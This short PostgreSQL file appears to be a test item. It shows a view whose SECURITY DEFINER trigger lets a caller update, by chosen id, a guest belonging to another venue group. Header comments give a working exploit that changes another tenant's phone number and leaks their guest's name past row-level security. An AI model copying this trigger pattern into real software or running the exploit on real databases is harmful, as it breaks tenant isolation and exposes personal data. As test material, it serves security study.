-- The trigger of the view changes the guest of the new id, which the caller chooses, with its owner's rights.
-- about: guest_cards, save_guest_card, guests
-- as: hf_bookings_app
-- exploit: SET rls.venue_group_id = '11111111-1111-1111-1111-111111111111';
-- exploit: UPDATE guest_cards SET id = '22222222-0000-0000-0000-000000000003', phone = '+999'
-- exploit: RETURNING 'before: ' || full_name;
-- shows: before: Road-secret guest
-- One form for a guest. The view shows each group its own.
CREATE VIEW guest_cards WITH (security_invoker = true) AS
SELECT venue_group_id, id, full_name, phone, blocked FROM guests;
CREATE FUNCTION save_guest_card() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
BEGIN
  UPDATE guests g SET phone = NEW.phone, blocked = NEW.blocked WHERE g.id = NEW.id
  RETURNING g.venue_group_id, g.full_name INTO NEW.venue_group_id, NEW.full_name;
  RETURN NEW;
END
$$;
CREATE TRIGGER save_guest_card INSTEAD OF UPDATE ON guest_cards
FOR EACH ROW EXECUTE FUNCTION save_guest_card();
GRANT SELECT, UPDATE ON guest_cards TO hf_bookings_app;
